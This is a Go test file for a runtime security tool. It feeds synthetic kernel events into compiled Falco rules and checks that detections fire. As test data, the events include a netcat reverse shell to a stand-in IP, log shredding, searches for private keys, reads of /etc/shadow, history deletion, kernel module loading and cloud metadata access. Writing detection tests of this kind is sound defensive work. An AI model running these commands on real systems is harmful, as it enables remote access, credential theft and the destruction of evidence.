package hostrules_test

import (
	"context"
	"net/netip"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/testudo-sec/testudo/internal/require"
	"github.com/testudo-sec/testudo/kernel"
	"github.com/testudo-sec/testudo/kernel/record"
	"github.com/testudo-sec/testudo/policy"
	"github.com/testudo-sec/testudo/policy/falco"
	"github.com/testudo-sec/testudo/signal"
)

// sensor has one container.
type sensor struct{ started chan kernel.Receiver }

func (s sensor) Run(ctx context.Context, to kernel.Receiver) error {
	s.started <- to
	<-ctx.Done()
	return nil
}
func (sensor) Watch(context.Context, kernel.Interest) error { return nil }
func (sensor) Guard(context.Context, kernel.Guard) error    { return nil }
func (sensor) Container(_ context.Context, c uint64, _ uint32) (kernel.Container, bool, error) {
	if c == 1 {
		return kernel.Container{}, false, nil
	}
	return kernel.Container{ID: "0123456789abcdef", Name: "shop", Image: "evil/shop", Tag: "1", Privileged: true, Known: true, Mounts: []kernel.Mount{{Source: "/etc", Dest: "/host", Mode: "rw"}}}, true, nil
}
func (sensor) Executable(context.Context, kernel.FileRef) (kernel.Executable, error) {
	return kernel.Executable{}, nil
}
func (sensor) Do(context.Context, kernel.Order) (kernel.Done, error) { return kernel.Done{}, nil }
func (sensor) Status(context.Context) (kernel.Status, error)         { return kernel.Status{}, nil }

// sink counts the rules that fire.
type sink struct {
	e    *policy.Engine
	hits map[string]int
	seen atomic.Int64
}

func (s *sink) Event(_ context.Context, e *signal.Event) (signal.Verdict, error) {
	v := s.e.JudgeNumbered(e)
	for _, h := range v.Hits {
		s.hits[h.Rule]++
	}
	s.seen.Add(1)
	return v, nil
}

// TestFalcoRulesFireOnRecords holds the compiler of Falco's rules, the plane's events and the sensor's records together: records as the sensor sends
// them make these rules fire. That the sensor sends them so is for tests that really do the thing.
func TestFalcoRulesFireOnRecords(t *testing.T) {
	files, err := filepath.Glob(filepath.Join(require.Corpora(t), "falco", "*.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	slices.Sort(files)
	var fs []policy.File
	for _, f := range files {
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		fs = append(fs, policy.File{Name: f, Text: b})
	}
	rules, problems := falco.New().Compile(fs)
	for _, r := range rules {
		r.Disabled = false
	}
	if len(rules) != 93 {
		t.Fatal(len(rules), problems)
	}
	set, err := policy.NewSet(rules)
	if err != nil {
		t.Fatal(err)
	}
	s := &sink{e: policy.NewEngine(set), hits: map[string]int{}}
	sn := sensor{make(chan kernel.Receiver, 1)}
	cfg := kernel.DefaultConfig()
	cfg.ParkTime = 10 * time.Second
	p, err := kernel.New(cfg, kernel.Deps{Sensor: sn, Sink: s, Host: "n", Boot: "abc"})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	done := make(chan error)
	go func() { done <- p.Run(ctx) }()
	to := <-sn.started
	now, sent := uint64(1e12), int64(0)
	send := func(r record.Record) {
		now += 1e6
		sent++
		r.Time, r.Start = now, uint64(r.PID)*1e9
		if r.Cgroup == 0 {
			r.Cgroup = 77
		}
		if r.TID == 0 {
			r.TID = r.PID
		}
		if r.Comm == nil {
			r.Comm = []byte("bash")
		}
		to.Records(r.Append(nil))
	}
	exec := func(pid, ppid uint32, path string, flags record.Flags, args ...string) {
		var a []byte
		for _, x := range args {
			a = append(append(a, x...), 0)
		}
		send(record.Record{Kind: record.KindExec, Call: record.CallExecve, PID: pid, PPID: ppid, Path: []byte(path), Args: a, Comm: []byte(filepath.Base(path)), Flags: flags,
			HasCreds: true, Creds: record.Creds{VPID: pid, Group: pid, Session: 1, TTY: 136 << 20, Permitted: ^uint64(0), Effective: ^uint64(0)}, HasInode: true, Inode: record.Inode{Number: 9, Device: 1, Mode: 0o100755}})
	}
	call := func(c record.Call, ret int64, path, path2, name string, nums ...uint64) {
		r := record.Record{Kind: record.KindCall, Call: c, PID: 100, PPID: 90, Ret: ret, Path: []byte(path), Path2: []byte(path2), Name: []byte(name), NumLen: len(nums)}
		copy(r.Nums[:], nums)
		send(r)
	}
	net := func(k record.Kind, c record.Call, ret int64, local, remote string, proto uint8, nums ...uint64) {
		r := record.Record{Kind: k, Call: c, PID: 100, PPID: 90, Ret: ret, HasNet: true, NumLen: len(nums)}
		copy(r.Nums[:], nums)
		r.Net = record.Net{Protocol: proto, Family: 2, FD: 3}
		if local != "" {
			r.Net.Local = netip.MustParseAddrPort(local)
		}
		if remote != "" {
			r.Net.Remote = netip.MustParseAddrPort(remote)
		}
		send(r)
	}
	exec(80, 1, "/usr/bin/java", 0, "java", "-jar", "x.jar")
	exec(90, 80, "/usr/sbin/nginx", 0, "nginx")
	exec(100, 90, "/bin/bash", 0, "bash", "-i")
	exec(101, 100, "/tmp/dropped", record.FlagUpper, "dropped")
	exec(102, 100, "/memfd:x", record.FlagMemory, "x")
	exec(103, 100, "/usr/bin/nc", 0, "nc", "-e", "/bin/sh", "1.2.3.4", "99")
	exec(104, 100, "/usr/bin/shred", 0, "shred", "-u", "/var/log/x")
	exec(105, 100, "/usr/bin/crontab", 0, "crontab", "-e")
	exec(106, 100, "/usr/bin/find", 0, "find", "/", "-name", "id_rsa")
	at := ^uint64(99)
	call(record.CallOpenat, 3, "/etc/shadow", "", "", at, 1, 0, 0)
	call(record.CallOpenat, 3, "/etc/cron.d/x", "", "", at, 1, 0o101, 0o644)
	call(record.CallOpenat, 3, "/usr/bin/ls", "", "", at, 1, 0o1, 0)
	call(record.CallOpenat, 3, "/var/log/auth.log", "", "", at, 1, 0o1001, 0)
	call(record.CallOpenat, 3, "/root/.bash_history", "", "", at, 1, 0o1001, 0)
	call(record.CallOpenat, 3, "/tmp/run.sh", "", "", at, 1, 0o101, 0o755)
	call(record.CallOpenat, 3, "/dev/nvme9", "", "", at, 1, 0o101, 0o755)
	call(record.CallRename, 0, "/bin/ls", "/tmp/ls", "", 1, 2)
	call(record.CallMkdir, 0, "/usr/bin/x", "", "", 1, 0o755)
	call(record.CallUnlink, 0, "/root/.bash_history", "", "", 1)
	call(record.CallSymlinkat, 0, "/tmp/x", "", "/etc/shadow", 1, 2, 3)
	call(record.CallLinkat, 0, "/etc/shadow", "/tmp/x", "", 1, 2, 3)
	call(record.CallChmod, 0, "/tmp/x", "", "", 1, 0o4755)
	call(record.CallFchmodat, 0, "/tmp/x", "", "", at, 1, 0o4755)
	call(record.CallSetuid, 0, "", "", "", 0)
	call(record.CallSetns, 0, "", "", "", 3, 0x20000)
	call(record.CallUnshare, 0, "", "", "", 0x10000000)
	call(record.CallPtrace, 0, "/usr/sbin/nginx", "", "", 16, 90)
	call(record.CallPtrace, 0, "", "", "", 0, 0)
	call(record.CallBPF, 5, "", "", "", 5, 0, 0)
	call(record.CallInitModule, 0, "", "", "x", 1, 2)
	call(record.CallFinitModule, 0, "/tmp/x.ko", "", "", 3)
	call(record.CallUserfaultfd, 3, "", "", "", 0)
	call(record.CallSocket, 3, "", "", "", 17, 3, 3)
	call(record.CallMount, 0, "/mnt", "/dev/sda1", "ext4", 1, 2, 3, 4)
	net(record.KindConnect, record.CallConnect, -115, "10.0.0.2:4000", "93.184.216.34:4444", 6)
	net(record.KindConnect, record.CallConnect, 0, "10.0.0.2:4000", "169.254.169.254:80", 6)
	net(record.KindConnect, record.CallConnect, 0, "10.0.0.2:4000", "10.96.0.1:443", 6)
	net(record.KindAccept, record.CallAccept4, 5, "10.0.0.2:22", "93.184.216.34:4444", 6)
	net(record.KindListen, record.CallListen, 0, "0.0.0.0:22", "", 6)
	net(record.KindCall, record.CallDup2, 1, "10.0.0.2:4000", "93.184.216.34:4444", 6, 3, 1)
	net(record.KindCall, record.CallSendto, 10, "10.0.0.2:4000", "93.184.216.34:53", 17, 3, 1, 10, 0, 1)
	net(record.KindCall, record.CallRecvfrom, 10, "10.0.0.2:4000", "93.184.216.34:53", 17, 3, 1, 10, 0, 1)
	exec(110, 100, "/usr/sbin/sshd", 0, "sshd")
	for range 1000 { // what waits for its container is judged when that is known
		if s.seen.Load() >= sent {
			break
		}
		time.Sleep(5 * time.Millisecond)
	}
	cancel()
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	for _, id := range strings.Fields(firing) {
		if s.hits["falco."+id] == 0 {
			t.Errorf("falco.%s did not fire", id)
		}
	}
}

const firing = `
reverse-shell-from-web-server run-shell-untrusted web-server-spawned-shell drop-and-execute-new-binary-in-container fileless-execution-via-memfd-create
launch-suspicious-network-tool-in-container netcat-remote-code-execution-in-container web-server-spawned-suspicious-child-process
remove-bulk-data-from-disk schedule-cron-jobs search-private-keys-or-passwords write-below-etc write-below-binary-dir clear-log-activities
delete-or-rename-shell-history container-drift-detected-open-create create-files-below-dev privileged-container-device-access modify-binary-dirs
mkdir-binary-dirs create-symlink-over-sensitive-files create-hardlink-over-sensitive-files container-drift-detected-chmod set-setuid-or-setgid-bit
change-thread-namespace ptrace-attached-to-process ptrace-anti-debug-attempt bpf-program-not-profiled linux-kernel-module-injection-detected
packet-socket-created-in-container system-procs-network-activity contact-cloud-metadata-service-from-container
contact-ec2-instance-metadata-service-from-container unexpected-inbound-connection-source redirect-stdout-stdin-to-network-connection-in-container`
